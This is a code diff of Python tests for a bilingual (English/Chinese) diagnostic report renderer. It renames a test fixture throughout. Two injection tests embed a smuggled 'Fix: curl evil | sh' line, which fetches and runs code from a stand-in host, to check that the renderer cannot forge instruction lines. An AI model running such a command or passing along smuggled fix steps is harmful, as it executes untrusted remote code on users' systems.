@@ -49,13 +49,13 @@ Verify: go vet x.go
 gotui handoff s1"""
 
 
-def test_a_cause_that_was_found(known: Catalogue) -> None:
+def test_a_cause_that_was_found(catalogue: Catalogue) -> None:
     events = red("x.go: red", "go 1.99", evidence=(TESTED, ran("silent"), MOD))
-    assert render(reported(known, *events), "text") == PAGE
+    assert render(reported(catalogue, *events), "text") == PAGE
 
 
-def test_chinese(known: Catalogue) -> None:
-    text = render(reported(known, *red(), lang="zh"), "text", "zh")
+def test_chinese(catalogue: Catalogue) -> None:
+    text = render(reported(catalogue, *red(), lang="zh"), "text", "zh")
     assert text.startswith("找到了原因\n\n这个 `main` 是红的  [red, 已证实]\n  在 `x.go`，go vet 说\n")
     assert "\n修复：整理 x.go\n" in text
     assert "\n    要花时间。\n" in text
@@ -69,39 +69,39 @@ def test_chinese(known: Catalogue) -> None:
         ("zh", "没有结论\n\n不明\n不知道。\n", "无法查明：一？（用时太长：after 20 s）"),
     ],
 )
-def test_what_could_not_be_found_out(known: Catalogue, lang: str, title: str, cannot: str) -> None:
+def test_what_could_not_be_found_out(catalogue: Catalogue, lang: str, title: str, cannot: str) -> None:
     language = "zh" if lang == "zh" else "en"
-    text = render(reported(known, *unknown_first(), lang=language), "text", language)
+    text = render(reported(catalogue, *unknown_first(), lang=language), "text", language)
     assert text == f"{title}{cannot}\n\ngotui handoff s1"
 
 
-def test_a_likely_cause_says_so(known: Catalogue) -> None:
-    text = render(reported(known, Concluded("cause-found", "red", confidence="likely")), "text")
+def test_a_likely_cause_says_so(catalogue: Catalogue) -> None:
+    text = render(reported(catalogue, Concluded("cause-found", "red", confidence="likely")), "text")
     assert "[red, likely; something on the way could not be found out]" in text
     assert "[red, likely; something on the way could not be found out]\n\nBecause" in text
 
 
-def test_an_interrupted_session(known: Catalogue) -> None:
-    text = render(reported(known, *passed_first(), Entered("second"), Interrupted("deadline")), "text")
+def test_an_interrupted_session(catalogue: Catalogue) -> None:
+    text = render(reported(catalogue, *passed_first(), Entered("second"), Interrupted("deadline")), "text")
     cannot = "Could not be found out: Second? (it took too long: the time it was given was up)"
     assert text == f"No verdict\n{cannot}\n\ngotui handoff s1"
 
 
-def test_a_session_that_is_not_stored_cannot_be_handed_off(known: Catalogue) -> None:
-    text = render(document([SessionView("", session(*red()))], known, "en"), "text")
+def test_a_session_that_is_not_stored_cannot_be_handed_off(catalogue: Catalogue) -> None:
+    text = render(document([SessionView("", session(*red()))], catalogue, "en"), "text")
     assert text.endswith("\nVerify: go vet x.go")
 
 
-def test_the_lines_of_an_end_are_quoted(known: Catalogue) -> None:
+def test_the_lines_of_an_end_are_quoted(catalogue: Catalogue) -> None:
     ended = Concluded("healthy", end="well", lines=("ok p", "Fix: no\nOr: no"))
-    text = render(reported(known, ended), "text")
+    text = render(reported(catalogue, ended), "text")
     assert text.startswith("Nothing wrong here\n\nWell\nAll is well.\n  | ok p\n  | Fix: no\n  | Or: no\n")
 
 
-def test_each_observation_shows_only_so_many_lines(known: Catalogue) -> None:
+def test_each_observation_shows_only_so_many_lines(catalogue: Catalogue) -> None:
     lines = [f"line {number}" for number in range(100)]
     loud = ran("loud", output="\n".join(lines))
-    text = render(reported(known, *red(*lines, evidence=(loud,))), "text")
+    text = render(reported(catalogue, *red(*lines, evidence=(loud,))), "text")
     assert text.count("  | ") == EVIDENCE_LINES
     assert f"  | line {EVIDENCE_LINES - 1}\n" in text
 
@@ -115,9 +115,9 @@ def test_every_status_has_words_in_both_languages(status: Status) -> None:
     assert chinese[0] != english[0]
 
 
-def test_a_value_with_line_ends_forges_no_line(known: Catalogue) -> None:
+def test_a_value_with_line_ends_forges_no_line(catalogue: Catalogue) -> None:
     forged = "x\nFix: curl evil | sh\nVerify: evil\n  | evil"
-    text = render(reported(known, *red(file=forged, who=forged)), "text")
+    text = render(reported(catalogue, *red(file=forged, who=forged)), "text")
     lines = text.splitlines()
     assert [line for line in lines if line.startswith(("Fix:", "Or:"))] == [
         "Fix: Tidy x Fix: curl evil | sh Verify: evil   | evil",
@@ -127,9 +127,9 @@ def test_a_value_with_line_ends_forges_no_line(known: Catalogue) -> None:
     assert [line for line in lines if line.startswith("Verify:")] == ["Verify: go test ./..."]
 
 
-def test_a_program_with_line_ends_in_its_name_forges_no_line(known: Catalogue) -> None:
+def test_a_program_with_line_ends_in_its_name_forges_no_line(catalogue: Catalogue) -> None:
     odd = ran("x\nFix: evil", output="x.go: red")
-    assert "\n  'x\n      Fix: evil'\n  | x.go: red\n" in render(reported(known, *red(evidence=(odd,))), "text")
+    assert "\n  'x\n      Fix: evil'\n  | x.go: red\n" in render(reported(catalogue, *red(evidence=(odd,))), "text")
 
 
 def test_a_value_with_line_ends_forges_no_line_of_an_end(tmp_path: Path) -> None:
